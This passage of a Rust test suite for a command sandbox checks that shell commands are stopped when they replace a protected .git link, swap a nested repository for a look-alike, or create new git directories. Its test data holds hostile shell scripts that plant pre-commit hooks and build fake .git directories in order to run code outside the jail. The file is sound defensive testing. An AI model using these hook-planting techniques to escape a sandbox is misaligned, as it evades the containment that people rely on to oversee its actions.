    std::fs::remove_file(root.join(".git")).unwrap();
    std::os::unix::fs::symlink(&git_dir, root.join(".git")).unwrap();

    let script = format!(
        r#"echo x > .git/hooks/pre-commit; rm .git && mkdir -p .git/hooks .git/objects .git/refs && printf '[core]\n\trepositoryformatversion = 0\n' > .git/config && echo 'ref: refs/heads/master' > .git/HEAD && printf '#!/bin/sh\ntouch {}\n' > .git/hooks/pre-commit && chmod 755 .git/hooks/pre-commit && echo replaced"#,
        marker.display()
    );
    let res = sandbox(&root, &shell_catching(&script));
    assert_eq!(res["ok"], json!(true), "{res:#}");
    let output = res["output"].as_str().unwrap();
    git(&["commit", "-q", "--allow-empty", "-m", "after"], &root);

    assert!(!marker.exists(), "the hook ran: {output}");
    assert!(!root.join(".git/hooks/pre-commit").exists(), "{output}");
    assert!(!git_dir.join("hooks/pre-commit").exists(), "{output}");
    assert_eq!(std::fs::read_link(root.join(".git")).unwrap(), git_dir);
    assert!(
        output.starts_with("stopped: the command was stopped: it replaced the protected link .git"),
        "{output}"
    );
    // What it made in the link's place, stopped however far it got.
    let kept: Vec<PathBuf> = std::fs::read_dir(root.join(".punie/quarantine"))
        .unwrap()
        .flatten()
        .map(|entry| entry.path().join(".git"))
        .filter(|made| made.is_dir())
        .collect();
    assert_eq!(kept.len(), 1, "{output}");
    assert!(
        output.contains("punie: the command replaced protected links, put back as they were"),
        "{output}"
    );
}

/// A nested repository's directory cannot be moved aside for a look-alike: the command cannot
/// rename `sub/` (its `.git` with it) and build a `sub/.git` with a hook of its own, and the
/// user's repository stays where it was.
#[test]
fn a_nested_repository_is_not_swapped_for_a_look_alike() {
    let ws = tempfile::tempdir().unwrap();
    let root = ws.path().canonicalize().unwrap();
    std::fs::create_dir_all(root.join("sub")).unwrap();
    git(&["init", "-q", "-b", "main"], &root.join("sub"));
    let head = std::fs::read_to_string(root.join("sub/.git/HEAD")).unwrap();
    let script = "mv sub sub2; mkdir -p sub/.git/hooks && echo evil > sub/.git/hooks/pre-commit; \
                  rm -rf sub; echo done";
    let res = sandbox(
        &root,
        &format!("print(run_command('sh', args=['-c', {script:?}]))"),
    );
    assert_eq!(res["ok"], json!(true), "{res:#}");
    assert!(!root.join("sub2").exists(), "{res:#}");
    assert!(!root.join("sub/.git/hooks/pre-commit").exists(), "{res:#}");
    assert_eq!(
        std::fs::read_to_string(root.join("sub/.git/HEAD")).unwrap(),
        head
    );
}

/// A protected path a command makes works until the sweep after the command moves it aside:
/// a nested repository whose `core.fsmonitor` runs a program, made by a command that then
/// waits out its time limit, ran that program at every `git status` the user's editor made
/// meanwhile, outside the jail. Now the command is stopped as soon as it makes one, however it
/// does: a deep `mkdir -p` faster than a watch can be set, a tree prepared where nothing is
/// watched (`node_modules`) and moved in, a folder made a git directory by its entries. Each
/// command below would wait for ever with its repository in place; each is stopped instead
/// (not timed out), and the repository is not in the workspace.
#[test]
fn a_command_is_stopped_as_soon_as_it_makes_a_protected_path() {
    let wait_for_ever = "while true; do sleep 0.05; done";
    for (made, script) in [
        (
            "sub/deep/.git",
            "mkdir -p sub/deep && cd sub/deep && git init -q .",
        ),
        ("a/b/c/d/e/.git", "mkdir -p a/b/c/d/e/.git/hooks"),
        (
            "vendored/.git",
            "mkdir -p node_modules/p/.git/hooks && mv node_modules/p vendored",
        ),
        (
            "src",
            "mkdir -p src/objects src/refs && echo 'ref: refs/heads/main' > src/HEAD",
        ),
    ] {
        let ws = tempfile::tempdir().unwrap();
        let root = ws.path().canonicalize().unwrap();
        let script = format!("{script} && {wait_for_ever}");
        let res = sandbox(
            &root,
            &format!(
                "try:\n    print(run_command('sh', args=['-c', {script:?}]))\n\
                 except PermissionError as err:\n    print('PermissionError', err)\n"
            ),
        );
        assert_eq!(res["ok"], json!(true), "{res:#}");
        let output = res["output"].as_str().unwrap();
        assert!(
            output
                .starts_with("PermissionError the command was stopped: it made the protected path"),
            "{script}: {output}"
        );
        assert!(output.contains(made), "{script}: {output}");
        let git_dir = if made == "src" { "src/HEAD" } else { made };
        assert!(!root.join(git_dir).exists(), "{script}: {output}");
    }
}

/// A command that makes ordinary directories and files, however many and however deep, runs
/// to its end: the watcher stops only what makes a protected path.
#[test]
fn a_command_that_makes_ordinary_trees_is_not_stopped() {
    let ws = tempfile::tempdir().unwrap();
    let root = ws.path().canonicalize().unwrap();
    let script = "mkdir -p build/a/b/c node_modules/x/lib && for i in 1 2 3 4 5; do \
                  mkdir -p tree$i/src && echo x > tree$i/src/f.py; done && \
                  mv tree1 moved && echo finished";
    let res = sandbox(
        &root,
        &format!("print(run_command('sh', args=['-c', {script:?}]))"),
    );
    assert_eq!(res["ok"], json!(true), "{res:#}");
    assert_eq!(res["output"], json!("finished\n\n"), "{res:#}");
    assert!(root.join("moved/src/f.py").exists());
}
